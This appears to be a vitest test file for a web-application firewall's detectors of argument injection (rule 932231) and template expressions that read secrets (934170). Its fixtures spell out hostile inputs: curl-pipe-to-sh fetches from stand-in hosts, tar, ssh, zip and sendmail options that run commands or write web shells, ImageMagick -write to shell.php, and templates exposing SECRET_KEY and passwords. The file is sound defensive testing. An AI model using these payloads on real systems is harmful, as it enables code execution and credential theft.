// biome-ignore-all lint/suspicious/noTemplateCurlyInString: template payloads are literal text
/**
 * core/signatures/argument-injection.ts: options that make a program run a
 * command (932231) and template expressions that read the application's
 * secrets (934170); sentences that name the options and settings that are
 * no secret pass.
 */
import { describe, expect, it } from "vitest";
import { execOption } from "../../../core/signatures/argument-injection.ts";
import { templateSecret } from "../../../core/signatures/template-probes.ts";
import { jsonInput, rulesOf } from "./support.ts";

const rules = (body: unknown): string[] => rulesOf(jsonInput(body));

describe("argument injection", () => {
  it("names options that run what follows them", () => {
    for (const v of [
      "--exec 'curl -s http://x.example/y | sh'",
      "--checkpoint-action=exec=sh /tmp/r.sh",
      '-oProxyCommand="sh -c id"',
      "--use-compress-program='sh -c id'",
      "x -exec rm {} ;",
      "-T -TT 'sh -c id'",
      '--unzip-command="sh -c id"',
      // An ssh URL's host that is an option (git hands it to ssh), and zip's -TT among other flags.
      "ssh://-oProxyCommand=sh -c 'curl http://203.0.113.33/p|sh'/x",
      "-TvTT=id>shell.php foo.zip",
    ])
      expect(execOption(v), v).toBe(true);
  });

  it("names options that write a script where the value says", () => {
    for (const v of [
      '"attacker\\" -oQ/tmp/ -X/var/www/cache/phpcode.php some"@email.com',
      "a -X /srv/www/htdocs/log.txt b",
      "100x100 -write /tmp/shell.php",
      "100x100 -write msl:/tmp/x.msl",
      "-write /var/www/html/uploads/a.png",
      "100x100 -write /app/public/s.js -set comment %[`id`]",
    ])
      expect(execOption(v), v).toBe(true);
  });

  it("leaves other -X and -write alone", () => {
    for (const v of [
      "press Ctrl-X /save",
      "use -write to save the image",
      "curl -X POST /api/items",
      "-X /tmp/debug.log",
      "model T-X /var/www",
      "-write out.png",
    ])
      expect(execOption(v), v).toBe(false);
  });

  it("leaves sentences and other options alone", () => {
    for (const v of [
      "use --exec to run a command",
      "the -exec flag of find",
      "--output result.mp4",
      "pre-execution",
      "",
    ])
      expect(execOption(v), v).toBe(false);
  });

  it("is 932231 in a body field, an array element included", () => {
    expect(rules({ extra_args: "--exec 'curl -s http://x.example/y | sh'" })).toContain("932231");
    expect(rules({ paths: ["/data", "--checkpoint=1", "--checkpoint-action=exec=sh /tmp/r.sh"] })).toContain("932231");
    expect(rules({ extra_args: "--format mp4 --output video.mp4" })).toEqual([]);
    expect(rules({ email: '"a\\" -oQ/tmp/ -X/var/www/html/x.php b"@example.com' })).toContain("932231");
    expect(rules({ size: "100x100 -write /var/www/html/x.php" })).toContain("932231");
  });
});

describe("template expressions that read secrets", () => {
  it("names settings and config secrets", () => {
    for (const v of [
      "{{ settings.SECRET_KEY }}",
      "Thanks {{ settings.DATABASES.default.PASSWORD }}",
      "{{config.SECRET_KEY}}",
      "{{ settings.EMAIL_HOST_PASSWORD }}",
      "{% if settings.AWS_SECRET_ACCESS_KEY %}",
    ])
      expect(templateSecret(v), v).toBe(true);
  });

  it("leaves settings that are no secret alone", () => {
    for (const v of [
      "{{ settings.site_name }}",
      "{{ settings.THEME }}",
      "{{ config.title }}",
      "SECRET_KEY rotation notes",
    ])
      expect(templateSecret(v), v).toBe(false);
  });

  it("is 934170 in a body field", () => {
    expect(rules({ footer: "Thank you! {{ settings.SECRET_KEY }}" })).toContain("934170");
  });
});
